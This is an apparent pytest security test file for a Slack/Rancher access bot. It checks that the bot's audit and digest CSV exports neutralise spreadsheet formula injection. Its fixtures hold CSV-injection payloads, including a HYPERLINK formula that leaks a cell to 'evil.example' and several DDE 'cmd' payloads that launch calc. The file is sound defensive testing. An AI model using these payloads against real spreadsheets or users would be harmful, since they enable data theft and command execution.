"""Every CSV the bot writes is safe to open in a spreadsheet: issue 10, item 7.

Formula text arrives the way an insider would send it: as the reason of a real `/access request` through Slack, and
as a Rancher display name (free text in Rancher: `ProjectSpec.DisplayName`/cluster `name` carry no character rules,
rancher/rancher v2.14.4 pkg/apis/management.cattle.io/v3/authz_types.go:102, and v3 shows `displayName` as `name`,
pkg/schemas/management.cattle.io/v3/schema.go:245). Slack trims the ends of a modal value and the command splits on
whitespace, so a leading tab or carriage return can only come from Rancher. A cell starting with `=`, `+`, `-`, `@`, a
tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets (OWASP "CSV Injection"); each must come
out prefixed with `'`.
"""

from __future__ import annotations

import contextlib
import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.fernet import Fernet

from accessbot_emulators.rancher import RancherEmulator
from bot.cli import main
from bot.demo import botconfig
from tests.conftest import ALICE, BOB, BOT_KEY, SUBJECTS, RunningBot, link_users
from tests.security.conftest import MovableClock, cli_config

MakeBot = Callable[..., contextlib.AbstractContextManager[RunningBot]]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
WEEK = 7 * 86400
REASONS = {  # what Alice and Bob write as their reasons, one request each
    (ALICE, "dev-eu/payments project-member"): '=HYPERLINK("https://evil.example/?d="&A1,"details")',
    (ALICE, "dev-eu/payments read-only"): "+1+cmd|' /C calc'!A0",
    (BOB, "dev-eu/Default project-member"): "-2+3+cmd|' /C calc'!A0",
    (BOB, "dev-eu/Default read-only"): "@SUM(1+1)*cmd|' /C calc'!A0",
}
LAB_NAMES = {"c-lab01": "\t=1+2", "c-lab02": "\r=1+2"}  # Rancher display names of two lab clusters
POLICY = {
    "rules": [
        *botconfig.DEMO_POLICY["rules"],
        {
            "name": "lab-clusters",
            "groups": ["engineering"],
            "clusters": ["c-lab*"],
            "roles": ["cluster-member"],
            "max_duration": "8h",
            "approval": "none",
        },
    ]
}


def overrides(token_key: str) -> dict[str, object]:
    """The lab rule, a fixed token key across restarts, a digest due every Monday 00:00 UTC, a quick outbox."""
    return {
        "policy": POLICY,
        "security": {"token_encryption_keys": [token_key]},
        "schedule": {"outbox_interval": "1s", "digest": {"day": "monday", "time": "00:00", "timezone": "UTC"}},
    }


def unsafe_cells(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if cell.startswith(FORMULA_START)]


@pytest.fixture
def written(make_bot: MakeBot, rancher: RancherEmulator, tmp_path: Path) -> tuple[RunningBot, Path, str]:
    """A bot's database holding grants requested through Slack with formula reasons and formula-named clusters."""
    rancher.reset()
    for cluster_id, name in LAB_NAMES.items():
        rancher.add_cluster(cluster_id, name)
    token_key = Fernet.generate_key().decode()
    database = tmp_path / "bot.db"
    common = {"database": database, "rancher_url": rancher.url, "rancher_token": BOT_KEY}
    with make_bot(**common, overrides=overrides(token_key)) as bot:
        link_users(bot, SUBJECTS)
        for (user, what), reason in REASONS.items():
            reply = bot.ask(user, f"request {what} for 1h because {reason}")
            assert "is active" in reply.text, reply.text
        for cluster_id in LAB_NAMES:
            reply = bot.ask(ALICE, f"request {cluster_id} cluster-member for 1h ticket @OPS-1 because lab")
            assert "is active" in reply.text, reply.text
    return bot, database, token_key


def test_audit_export_csv_neutralises_formula_cells(
    written: tuple[RunningBot, Path, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`accessbot audit export --format csv` prefixes every reason and target starting like a formula with `'`."""
    bot, _, _ = written
    config = cli_config(tmp_path / "cli.yaml", bot.config)
    capsys.readouterr()
    assert main(["--config", str(config), "audit", "export", "--since", "1d", "--format", "csv"]) == 0
    text = capsys.readouterr().out
    assert unsafe_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    reasons = {row["reason"] for row in rows if row["action"] == "grant.requested"}
    assert {"'" + reason for reason in REASONS.values()} <= reasons
    targets = {row["target"] for row in rows if row["action"] == "grant.requested"}
    assert {"'" + name for name in LAB_NAMES.values()} <= targets


def test_digest_csv_neutralises_formula_cells(
    written: tuple[RunningBot, Path, str], make_bot: MakeBot, rancher: RancherEmulator
) -> None:
    """The weekly digest's grants CSV, uploaded to Slack, prefixes formula reasons and tickets with `'`."""
    _, database, token_key = written
    digest_channel = botconfig.CHANNELS["digest"]
    with make_bot(
        database=database,
        rancher_url=rancher.url,
        rancher_token=BOT_KEY,
        overrides=overrides(token_key),
        clock=MovableClock(WEEK),  # the next week: the digest of the week the grants were made falls due at start
    ) as bot:
        upload = bot.slack.wait_for(
            lambda: next((f for f in bot.slack.files(digest_channel) if f.content and b"HYPERLINK" in f.content), None),
            timeout=15,
        )
    text = (upload.content or b"").decode("utf-8")
    assert unsafe_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {"'" + reason for reason in REASONS.values()} <= {row["reason"] for row in rows}
    assert {row["ticket"] for row in rows if row["reason"] == "lab"} == {"'@OPS-1"}
